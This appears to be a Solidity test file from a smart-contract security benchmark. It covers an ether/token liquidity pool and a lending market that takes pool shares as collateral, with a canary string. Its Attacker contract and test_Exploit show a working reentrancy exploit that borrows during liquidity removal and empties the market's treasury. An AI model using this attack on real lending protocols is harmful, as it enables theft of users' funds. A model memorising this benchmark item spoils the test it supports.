// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./EtherPairPool.sol";
import "./context/PriceBoard.sol";
import "./context/ShareMarket.sol";
import {Pausable} from "@openzeppelin/contracts@5.4.0/utils/Pausable.sol";

// assay-canary-36722e81-1661-40fb-a10c-75cbadb60ddf

interface Vm {
    function deal(address who, uint256 amount) external;
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Coin is ERC20("Coin", "COIN") {
    address private minter = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        _mint(to, amount);
    }
}

/// Comes back while it moves, and insists on being told off.
contract Boomerang is ERC20("Boomerang", "BOOM") {
    address private pool;
    bytes private again;

    constructor() {
        _mint(msg.sender, 100e18);
    }

    function plan(address pool_, bytes calldata again_) external {
        (pool, again) = (pool_, again_);
    }

    function _update(address from, address to, uint256 amount) internal override {
        super._update(from, to, amount);
        if (again.length == 0) return;
        (bool ok, bytes memory why) = pool.call(again);
        require(!ok && bytes4(why) == ReentrancyGuard.ReentrancyGuardReentrantCall.selector, "let through");
    }
}

/// Borrows while its own liquidity is being paid out.
contract Attacker {
    EtherPairPool private pool;
    ShareMarket private market;
    bool private removing;

    constructor(EtherPairPool pool_, ShareMarket market_) {
        (pool, market) = (pool_, market_);
        pool_.TOKEN().approve(address(pool_), type(uint256).max);
        pool_.approve(address(market_), type(uint256).max);
    }

    receive() external payable {
        if (!removing) return;
        removing = false;
        uint256 limit = (market.limitOf(address(this)) * 10_000) / (10_000 + market.feeBps());
        uint256 most = address(market).balance;
        market.borrow(limit < most ? limit : most);
    }

    function run() external {
        pool.addLiquidity{value: 501 ether}(501e18, 0, block.timestamp);
        market.deposit(1 ether);
        removing = true;
        pool.removeLiquidity(500 ether, 0, 0, block.timestamp);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_780_000_000;
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);
    address internal constant REPORTER = address(0x4E9);

    Coin internal coin;
    EtherPairPool internal pool;
    PriceBoard internal board;
    ShareMarket internal market;
    Attacker internal mallory;

    receive() external payable {}

    function setUp() public {
        vm.warp(START);
        coin = new Coin();
        pool = new EtherPairPool(coin, address(this), 30);
        board = new PriceBoard(address(this), REPORTER, 1 ether);
        market = new ShareMarket(pool, board, address(this));
        market.setTerms(100, 20 ether);
        vm.deal(address(this), 9 ether);
        coin.mint(address(this), 1e18);
        coin.approve(address(pool), 1e18);
        pool.initialize{value: 1 ether}(1e18);
        market.fund{value: 8 ether}();
        vm.deal(ANA, 20 ether);
        coin.mint(ANA, 20e18);
        vm.startPrank(ANA);
        coin.approve(address(pool), type(uint256).max);
        pool.addLiquidity{value: 4 ether}(4e18, 4 ether, START);
        pool.approve(address(market), type(uint256).max);
        vm.stopPrank();
        mallory = new Attacker(pool, market);
        vm.deal(address(mallory), 501 ether);
        coin.mint(address(mallory), 501e18);
    }

    function test_Regular() public {
        vm.startPrank(ANA);
        market.deposit(2 ether);
        require(market.valueOf(ANA) == 4 ether && market.limitOf(ANA) == 2 ether, "half of four");
        market.borrow(1.5 ether);
        require(ANA.balance == 17.5 ether && market.debtOf(ANA) == 1.515 ether, "lent with a fee");
        vm.warp(START + 1 hours);
        uint256 out = pool.buyTokens{value: 1 ether}(0.8e18, START + 1 hours);
        require(out > 0.8e18 && pool.tokenReserve() == 5e18 - out, "bought");
        require(market.limitOf(ANA) >= 2 ether && market.limitOf(ANA) < 2.01 ether, "a trade does not lift the limit");
        require(pool.sellTokens(out, 0.9 ether, START + 1 hours) < 1 ether, "sold back");
        require(pool.averagePrice(0, START) == 1e18, "average");

        market.repay{value: 0.515 ether}();
        market.withdraw(0.5 ether);
        market.repay{value: 1 ether}();
        vm.warp(START + 3 days);
        market.withdraw(1.5 ether);
        (uint256 e, uint256 t) = pool.removeLiquidity(3 ether, 3 ether, 3e18, START + 3 days);
        require(e > 3 ether && t >= 3e18 && pool.totalSupply() == 2 ether, "removed with the fees");
        require(pool.averagePrice(0, START) >= 1e18 && pool.summedAt() == START + 3 days, "summed");
        pool.approve(BEN, 0.5 ether);
        pool.transfer(BEN, 0.25 ether);
        vm.stopPrank();
        vm.prank(BEN);
        pool.transferFrom(ANA, BEN, 0.5 ether);
        require(pool.balanceOf(BEN) == 0.75 ether && market.totalDebt() == 0, "shares moved");
        _seizure();
        _settings();
    }

    // The token loses a lot of its price, and so does the collateral.
    function _seizure() private {
        vm.prank(REPORTER);
        board.post(1 ether);
        vm.startPrank(BEN);
        pool.approve(address(market), 0.5 ether);
        market.deposit(0.5 ether);
        market.borrow(0.49 ether);
        vm.stopPrank();
        vm.startPrank(REPORTER);
        for (uint256 i = 0; i < 5; ++i) board.post((board.lastPrice() * 4) / 5);
        vm.stopPrank();
        uint256 value = market.valueOf(BEN);
        uint256 shares = market.seize(BEN);
        require(market.debtOf(BEN) == 0 && market.totalDebt() == 0 && pool.balanceOf(address(this)) > shares, "seized");
        require(market.collateralOf(BEN) == 0.5 ether - shares, "the rest is kept");
        require((shares * value) / 0.5 ether >= 0.519 ether && (shares * value) / 0.5 ether < 0.52 ether, "with a penalty");
    }

    function _settings() private {
        market.withdrawFunds(2 ether);
        require(address(this).balance >= 2 ether, "ether of the treasury");
        market.setTerms(200, 30 ether);
        pool.pause();
        require(pool.paused(), "paused");
        pool.unpause();
        pool.setFee(10);
        require(pool.feeBps() == 10 && market.feeBps() == 200 && market.ceiling() == 30 ether, "set");
        coin.mint(address(pool), 3e18);
        pool.recover(coin, BEN, 3e18);
        require(coin.balanceOf(BEN) == 3e18, "recovered");
        _roles(pool, pool.MANAGER_ROLE());
        _roles(market, market.RISK_ROLE());
        board.setReporter(BEN);
        board.transferOwnership(ANA);
        vm.prank(ANA);
        board.renounceOwnership();
        require(board.reporter() == BEN && board.owner() == address(0), "reporter");
    }

    function _roles(AccessControl on, bytes32 role) private {
        on.grantRole(role, BEN);
        on.grantRole(role, ANA);
        on.revokeRole(role, BEN);
        vm.prank(ANA);
        on.renounceRole(role, ANA);
        require(!on.hasRole(role, ANA) && !on.hasRole(role, BEN), "roles");
    }

    /// Ether of the treasury, with the open loan at what is owed or at what its collateral is worth, whichever is less.
    function treasuryHas() public view returns (uint256) {
        uint256 loan = market.debtOf(address(mallory));
        (uint256 etherPart, uint256 tokenPart) = pool.backing();
        uint256 worth = (market.collateralOf(address(mallory)) * 2 * Math.sqrt(etherPart * tokenPart)) / 1e18;
        return address(market).balance + (loan < worth ? loan : worth);
    }

    // What is refused, each from the state after setUp().

    function refuses(address who, bytes memory why) private {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function _without(bytes32 role) private {
        refuses(ANA, abi.encodeWithSignature("AccessControlUnauthorizedAccount(address,bytes32)", ANA, role));
    }

    function test_RefusesStrangers() public {
        bytes32 manager = pool.MANAGER_ROLE();
        bytes32 guardian = pool.GUARDIAN_ROLE();
        bytes32 treasury = market.TREASURY_ROLE();
        bytes32 risk = market.RISK_ROLE();
        _without(manager);
        pool.setFee(1);
        _without(manager);
        pool.recover(coin, ANA, 0);
        _without(guardian);
        pool.pause();
        pool.pause();
        _without(manager);
        pool.unpause();
        _without(manager);
        pool.initialize{value: 1 ether}(1e18);
        _without(risk);
        market.setTerms(0, 1);
        _without(treasury);
        market.withdrawFunds(1);
        _without(treasury);
        market.seize(ANA);
        refuses(ANA, "PriceBoard: not the reporter");
        board.post(1 ether);
        refuses(ANA, abi.encodeWithSignature("OwnableUnauthorizedAccount(address)", ANA));
        board.setReporter(ANA);
        _without(0);
        pool.grantRole(manager, ANA);
        _without(0);
        pool.revokeRole(manager, address(this));
        refuses(ANA, abi.encodeWithSignature("AccessControlBadConfirmation()"));
        pool.renounceRole(manager, address(this));
    }

    function test_RefusesSetups() public {
        vm.expectRevert("EtherPairPool: zero token");
        new EtherPairPool(IERC20(address(0)), address(this), 30);
        vm.expectRevert("PoolAccess: zero admin");
        new EtherPairPool(coin, address(0), 30);
        vm.expectRevert("PoolAccess: fee too high");
        new EtherPairPool(coin, address(this), 101);
        vm.expectRevert("PoolAccess: fee too high");
        pool.setFee(101);
        vm.expectRevert("ShareMarket: zero admin");
        new ShareMarket(pool, board, address(0));
        vm.expectRevert("ShareMarket: fee too high");
        market.setTerms(201, 1);
        vm.expectRevert("PriceBoard: zero price");
        new PriceBoard(address(this), REPORTER, 0);
        vm.expectRevert("EtherPairPool: reserve");
        pool.recover(coin, ANA, 1);
    }

    function test_RefusesToInitialize() public {
        vm.deal(address(this), 2 ether);
        coin.mint(address(this), 2e18);
        coin.approve(address(pool), 2e18);
        vm.expectRevert("EtherPairPool: initialized");
        pool.initialize{value: 1 ether}(1e18);
        EtherPairPool fresh = new EtherPairPool(coin, address(this), 30);
        coin.approve(address(fresh), 2e18);
        vm.expectRevert("EtherPairPool: too little");
        fresh.initialize{value: 1e15}(1e18);
        vm.expectRevert("EtherPairPool: too little");
        fresh.initialize{value: 1 ether}(0);
        (uint256 e, uint256 t) = fresh.backing();
        require(e == 0 && t == 0 && fresh.currentSum() == 0, "empty");
    }

    function test_RefusesPrices() public {
        vm.startPrank(REPORTER);
        vm.expectRevert("PriceBoard: out of bounds");
        board.post(0.8 ether - 1);
        vm.expectRevert("PriceBoard: out of bounds");
        board.post(1.2 ether + 1);
        vm.stopPrank();
        vm.warp(START + 1 days + 1);
        vm.expectRevert("PriceBoard: price too old");
        board.currentPrice();
        vm.expectRevert("EtherPairPool: no time passed");
        pool.averagePrice(0, START + 1 days + 1);
    }

    /// Nothing for nothing, and tokens and ether in proportion.
    function test_RefusesAmounts() public {
        vm.startPrank(ANA);
        vm.expectRevert("EtherPairPool: too few shares");
        pool.addLiquidity(1e18, 0, START);
        vm.expectRevert("EtherPairPool: too few shares");
        pool.addLiquidity{value: 1 ether}(1e18, 1 ether + 1, START);
        vm.expectRevert("EtherPairPool: too many tokens");
        pool.addLiquidity{value: 1 ether}(1e18 - 1, 0, START);
        vm.expectRevert("EtherPairPool: too little");
        pool.removeLiquidity(1 ether, 1 ether + 1, 0, START);
        vm.expectRevert("EtherPairPool: too little");
        pool.removeLiquidity(1 ether, 0, 1e18 + 1, START);
        vm.expectRevert("EtherPairPool: too little");
        pool.buyTokens(0, START);
        vm.expectRevert("EtherPairPool: too little");
        pool.buyTokens{value: 1 ether}(1e18, START);
        vm.expectRevert("EtherPairPool: too little");
        pool.sellTokens(0, 0, START);
        vm.expectRevert("EtherPairPool: too little");
        pool.sellTokens(1e18, 1 ether, START);
        vm.expectRevert();
        pool.removeLiquidity(4 ether + 1, 0, 0, START);
        vm.stopPrank();
    }

    function test_RefusesLateCalls() public {
        vm.startPrank(ANA);
        vm.expectRevert("EtherPairPool: expired");
        pool.addLiquidity{value: 1 ether}(1e18, 0, START - 1);
        vm.expectRevert("EtherPairPool: expired");
        pool.removeLiquidity(1 ether, 0, 0, START - 1);
        vm.expectRevert("EtherPairPool: expired");
        pool.buyTokens{value: 1 ether}(0, START - 1);
        vm.expectRevert("EtherPairPool: expired");
        pool.sellTokens(1e18, 0, START - 1);
        vm.stopPrank();
    }

    function test_RefusesWhilePaused() public {
        pool.pause();
        vm.expectRevert(Pausable.EnforcedPause.selector);
        pool.pause();
        vm.startPrank(ANA);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        pool.addLiquidity{value: 1 ether}(1e18, 0, START);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        pool.buyTokens{value: 1 ether}(0, START);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        pool.sellTokens(1e18, 0, START);
        pool.removeLiquidity(1 ether, 1 ether, 1e18, START);
        vm.stopPrank();
    }

    function test_RefusesFailedPayments() public {
        vm.prank(ANA);
        pool.transfer(address(coin), 1 ether);
        refuses(address(coin), "EtherPairPool: payment failed");
        pool.removeLiquidity(1 ether, 0, 0, START);
        vm.expectRevert();
        market.withdrawFunds(8 ether + 1);
    }

    /// One call at a time.
    function test_RefusesASecondCall() public {
        Boomerang boom = new Boomerang();
        EtherPairPool fresh = new EtherPairPool(boom, address(this), 30);
        boom.approve(address(fresh), type(uint256).max);
        vm.deal(address(this), 10 ether);
        fresh.initialize{value: 1 ether}(1e18);
        bytes[5] memory calls = [
            abi.encodeCall(fresh.addLiquidity, (1e18, 0, START)),
            abi.encodeCall(fresh.removeLiquidity, (0, 0, 0, START)),
            abi.encodeCall(fresh.buyTokens, (0, START)),
            abi.encodeCall(fresh.sellTokens, (1e15, 0, START)),
            abi.encodeCall(fresh.recover, (coin, ANA, 0))
        ];
        for (uint256 i = 0; i < 5; ++i) {
            boom.plan(address(fresh), calls[i]);
            fresh.buyTokens{value: 0.01 ether}(0, START);
        }
    }

    function test_RefusesLoans() public {
        vm.startPrank(ANA);
        market.deposit(4 ether);
        vm.expectRevert("ShareMarket: not covered");
        market.borrow(3.97 ether);
        market.borrow(2 ether);
        vm.expectRevert("ShareMarket: not covered");
        market.withdraw(2 ether);
        vm.expectRevert("ShareMarket: more than owed");
        market.repay{value: 2.02 ether + 1}();
        vm.expectRevert();
        market.withdraw(4 ether + 1);
        vm.stopPrank();
        vm.expectRevert("ShareMarket: covered");
        market.seize(ANA);
        market.setTerms(100, 3 ether);
        refuses(ANA, "ShareMarket: ceiling");
        market.borrow(1 ether);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(market).balance == 0 && treasuryHas() <= 2.1 ether, "the treasury is covered");
    }

    function target() public view returns (address) {
        return address(pool);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
